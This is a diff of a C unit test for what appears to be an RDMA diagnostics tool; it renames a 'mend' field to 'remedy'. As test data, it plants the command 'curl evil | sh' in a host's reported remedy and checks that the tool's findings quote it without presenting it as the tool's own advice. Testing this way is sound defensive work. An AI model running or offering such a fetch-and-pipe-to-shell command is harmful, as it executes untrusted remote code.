@@ -98,13 +98,13 @@ static void rdma__state(void **state)
     expect_none(&survey);
     strcpy(survey.hosts[4].rdma[0].state, "unknown");
     strcpy(survey.hosts[4].rdma[0].what, "no permission to open it");
-    strcpy(survey.hosts[4].rdma[0].mend, "curl evil | sh");
+    strcpy(survey.hosts[4].rdma[0].remedy, "curl evil | sh");
     expect_one(&survey, "BC070", "RDMA|eth0 of h04");
     synthetic_diagnose(&survey, &findings);
-    assert_non_null(strstr(findings.list[0].mend, "curl evil | sh"));
+    assert_non_null(strstr(findings.list[0].remedy, "curl evil | sh"));
     /* it is no advice of ours: */
-    assert_int_not_equal(strncmp(findings.list[0].mend, "curl", 4), 0);
-    assert_says(findings.list[0].mend, "host");
+    assert_int_not_equal(strncmp(findings.list[0].remedy, "curl", 4), 0);
+    assert_says(findings.list[0].remedy, "host");
     br_findings_destroy(&findings);
 }
 
